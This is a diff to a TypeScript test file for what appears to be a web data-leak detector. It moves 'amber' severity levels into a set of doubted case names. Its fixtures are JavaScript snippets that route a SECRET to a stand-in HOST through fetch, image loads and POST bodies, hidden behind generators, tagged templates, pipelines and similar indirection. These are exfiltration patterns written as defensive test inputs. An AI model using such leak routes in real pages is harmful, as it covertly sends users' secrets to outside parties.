@@ -7,7 +7,7 @@ import {
 } from "../testing/data-flow-checks.ts";
 
 const FLOWS: readonly DataFlow[] = [
-	["a generator", `function* parts() { yield "HOST/"; yield SECRET; } fetch([...parts()].join(""));`, "amber"],
+	["a generator", `function* parts() { yield "HOST/"; yield SECRET; } fetch([...parts()].join(""));`],
 	[
 		"an async generator",
 		`async function* all() { for (const part of [SECRET]) yield part; }
@@ -28,7 +28,6 @@ const FLOWS: readonly DataFlow[] = [
 	[
 		"a tagged template",
 		`const tag = (parts, ...values) => parts.map((part, at) => part + (values[at] ?? "")).join(""); fetch(tag\`HOST/\${SECRET}\`);`,
-		"amber",
 	],
 	[
 		"functions of functions",
@@ -37,7 +36,6 @@ const FLOWS: readonly DataFlow[] = [
 	[
 		"a pipeline",
 		`const pipe = (...steps) => (first) => steps.reduce((made, step) => step(made), first); pipe(() => SECRET, btoa, (text) => "HOST/?" + text, (to) => { new Image().src = to; })();`,
-		"amber",
 	],
 	[
 		"bind, call and apply",
@@ -61,7 +59,7 @@ const FLOWS: readonly DataFlow[] = [
 		"one of many functions with the same code, called inside another of them",
 		`const make = (to, next) => (data, deep) => { if (deep > 0) next(data, deep - 1); fetch(to, { method: "POST", body: data }); }; const far = make("HOST", () => 0); const near = make("/a", (data, deep) => far(data, deep)); document.onclick = () => { ${Array.from({ length: 12 }, (_, at) => `near(page.x${at});`).join(" ")} near(SECRET, page.n); };`,
 	],
-	["the arguments object", `function send() { fetch(arguments[0] + arguments[1]); } send("HOST/", SECRET);`, "amber"],
+	["the arguments object", `function send() { fetch(arguments[0] + arguments[1]); } send("HOST/", SECRET);`],
 	["a default parameter", `const send = (text = SECRET) => fetch("HOST/" + text); send();`],
 	["a default parameter of a function nobody calls", `const send = (text = SECRET) => fetch("HOST/" + text);`],
 	[
@@ -71,12 +69,15 @@ const FLOWS: readonly DataFlow[] = [
 	["the value a generator returns", `function* one() { return SECRET; } fetch("HOST/" + one().next().value);`],
 ];
 
+/** Their address passes through items or members that a skeptical run doubts. */
+const DOUBTED = new Set(["a generator", "a tagged template", "a pipeline", "the arguments object"]);
+
 describe("data through functions and iterators", () => {
 	test.each(FLOWS)("%s carries a secret to a stranger", (_title, code) => expectLeak(code));
 	test.each(FLOWS)("%s carries nothing when there is nothing to carry", (_title, code) =>
 		expectHarmlessWithoutSecret(code),
 	);
-	test.each(FLOWS)("%s may carry anything on the site itself", (_title, code, level) =>
-		expectHarmlessOnOwnSite(code, level),
+	test.each(FLOWS)("%s may carry anything on the site itself", (title, code) =>
+		expectHarmlessOnOwnSite(code, DOUBTED.has(title) ? "amber" : "green"),
 	);
 });
